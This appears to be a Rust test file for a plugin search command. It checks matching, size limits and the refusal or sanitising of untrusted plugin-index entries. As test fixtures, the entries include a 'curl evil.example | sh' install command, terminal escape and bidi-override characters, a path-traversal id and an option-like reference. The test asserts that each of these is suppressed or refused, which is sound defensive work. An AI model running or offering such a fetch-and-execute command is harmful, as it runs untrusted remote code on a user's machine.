//! `plugins search`: what is installed and what indexes offer, by words, and no word of an index is believed.

mod support;

use std::fs;

use serde_json::{Value, json};
use support::{Bench, Run};

/// A site with `demo` 0.1.0, and an index that offers `demo` 0.2.0 and `other`.
fn bench() -> Bench {
    let bench = Bench::new();
    for id in ["demo", "other"] {
        bench.run(&["plugin", "new", id, "--type", "enricher", "--author", "Ada <ada@example.com>"]).ok();
    }
    fs::create_dir(bench.path("plugins")).expect("made");
    bench.run(&["plugin", "new", "demo", "--type", "enricher", "-o", "plugins"]).ok();
    bench.write(
        "index.json",
        index(&[offered("demo", "0.2.0", "Asks a reputation service"), offered("other", "0.1.0", "Räume auf")])
            .to_string(),
    );
    bench
}

fn index(plugins: &[Value]) -> Value {
    json!({"plugins": plugins})
}

fn offered(id: &str, version: &str, description: &str) -> Value {
    json!({
        "id": id, "type": "enricher", "name": id, "description": description, "version": version, "tags": ["Threat-Intel"],
        "reference": format!("registry.example/team/{id}@sha256:{}", "0".repeat(64)),
        "install": "curl evil.example | sh", "signing_key_fingerprint": "SHA256:ab", "capabilities": ["network.outbound"],
        "what_a_newer_aisoc_says": 1,
    })
}

fn search(bench: &Bench, words: &[&str]) -> Run {
    bench.run(&[&["plugins", "search", "--plugins-dir", "plugins"], words].concat())
}

/// Id, version and installed version of each that is found.
fn found(bench: &Bench, words: &[&str]) -> Vec<(String, String, Option<String>)> {
    let run = search(bench, &[words, &["--json"]].concat());
    let document: Value = serde_json::from_str(&run.ok().stdout).expect("JSON");
    let text = |value: &Value| value.as_str().map(str::to_owned);
    let plugins = document["plugins"].as_array().expect("plugins").iter();
    plugins
        .map(|plugin| {
            let [id, version] = ["id", "version"].map(|member| text(&plugin[member]).unwrap_or_default());
            (id, version, text(&plugin["installed_version"]))
        })
        .collect()
}

#[test]
fn every_word_has_to_be_said_of_it_in_letters_of_either_case() {
    let bench = bench();
    let here = || ("demo".to_owned(), "0.1.0".to_owned(), Some("0.1.0".to_owned()));
    let newer = || ("demo".to_owned(), "0.2.0".to_owned(), Some("0.1.0".to_owned()));
    let other = || ("other".to_owned(), "0.1.0".to_owned(), None);
    let offered = ["--index", "index.json"];
    let of = |words: &[&str]| found(&bench, &[words, &offered].concat());
    assert_eq!(found(&bench, &[]), [here()]);
    assert_eq!(of(&[]), [here(), newer(), other()]);
    assert_eq!(of(&["ENRICHER"]), [here(), newer(), other()], "the type");
    assert_eq!(of(&["threat-intel"]), [newer(), other()], "a tag");
    assert_eq!(of(&["threat-intel", "demo"]), [newer()], "both words");
    assert_eq!(of(&["RÄUME"]), [other()], "a description, and its capitals");
    assert_eq!(of(&["network."]), [newer(), other()], "a capability");
    assert_eq!(of(&["nobody"]), []);
    assert_eq!(search(&bench, &["nobody"]).ok().stdout, "no plugin of that is found\n");
    let text = search(&bench, &["demo", "--index", "index.json"]).ok().stdout.clone();
    let lines: Vec<Vec<&str>> = text.lines().map(|line| line.split_whitespace().collect()).collect();
    assert_eq!(lines[0], ["ID", "VERSION", "TYPE", "INSTALLED"]);
    assert!(lines.contains(&vec!["demo", "0.2.0", "enricher", "0.1.0"]), "{text}");
    // Without a plugins directory there is an index all the same.
    let elsewhere = [("AISOC_PLUGINS_DIR", "absent")];
    let elsewhere = bench.run_with(&["plugins", "search", "--index", "index.json", "other"], &elsewhere);
    assert!(elsewhere.ok().stdout.contains("other"), "{elsewhere:?}");
}

#[test]
fn what_an_index_calls_a_command_is_none() {
    let bench = bench();
    let run = search(&bench, &["--index", "index.json", "other"]);
    let reference = format!("registry.example/team/other@sha256:{}", "0".repeat(64));
    assert!(run.ok().stdout.contains(&format!("aisoc plugin install {reference}")), "{run:?}");
    assert!(!run.stdout.contains("curl"), "{run:?}");
    bench.write("index.json", index(&[offered("demo", "1\u{1b}[2J\u{202e}", "a\nb")]).to_string());
    let run = search(&bench, &["--index", "index.json", "demo", "threat"]);
    assert!(!run.ok().stdout.contains(['\u{1b}', '\u{202e}']) && run.stdout.contains("a\\u{a}b"), "{run:?}");
}

#[test]
fn an_index_that_is_none_is_refused_and_nothing_of_it_is_shown() {
    let bench = bench();
    let mut changed = offered("demo", "0.2.0", "x");
    let mut with = |member: &str, value: Value| {
        let before = changed[member].clone();
        changed[member] = value;
        let text = index(&[offered("other", "1", "x"), changed.clone()]).to_string();
        changed[member] = before;
        text
    };
    let digest = format!("@sha256:{}", "0".repeat(64));
    let cases = [
        ("no JSON", "{".to_owned()),
        ("another document", json!({"schema_version": 2, "ok": true}).to_string()),
        ("of a newer form", json!({"schema_version": 3, "plugins": []}).to_string()),
        ("an id that is none", with("id", json!("../x"))),
        ("a type that is none", with("type", json!("thing"))),
        ("a tag alone", with("reference", json!("registry.example/team/demo:1"))),
        ("a path", with("reference", json!(format!("oci:/tmp/x{digest}")))),
        ("an option", with("reference", json!(format!("--config{digest}")))),
        ("text for a list", with("tags", json!("x"))),
        ("twice the same member", index(&[]).to_string().replace('}', ", \"plugins\": []}")),
    ];
    for (case, content) in cases {
        bench.write("index.json", content);
        let run = search(&bench, &["--index", "index.json"]);
        run.refused(1, "index_invalid");
        assert_eq!(run.stdout, "", "{case}");
        assert!(run.stderr.contains("index.json"), "{case}: {run:?}");
    }
    search(&bench, &["--index", "absent.json"]).refused(1, "io_not_found");
    search(&bench, &["--index", "plugins"]).refused(1, "index_invalid");
}

#[test]
fn an_index_and_the_words_are_bounded() {
    const MOST: usize = 16 << 20;
    let bench = bench();
    for (bytes, fits) in [(MOST - 1, true), (MOST, true), (MOST + 1, false)] {
        let text = index(&[]).to_string();
        bench.write("index.json", format!("{text}{}", " ".repeat(bytes - text.len())));
        let run = search(&bench, &["--index", "index.json"]);
        if fits {
            run.ok()
        } else {
            run.refused(1, "index_invalid")
        };
    }
    for (words, fits) in [(31, true), (32, true), (33, false)] {
        let run = search(&bench, &vec!["demo"; words]);
        if fits {
            run.ok()
        } else {
            run.refused(2, "usage")
        };
    }
}

#[test]
fn what_is_installed_and_cannot_be_read_is_found_by_its_name() {
    let bench = bench();
    bench.write("plugins/demo/plugin.yaml", "id: [\n");
    let run = search(&bench, &["demo", "--json"]);
    let document: Value = serde_json::from_str(&run.ok().stdout).expect("JSON");
    let plugin = &document["plugins"][0];
    assert_eq!((&plugin["id"], &plugin["version"]), (&json!("demo"), &Value::Null));
    assert_eq!(plugin["objection"]["reason_code"], "manifest_invalid");
}
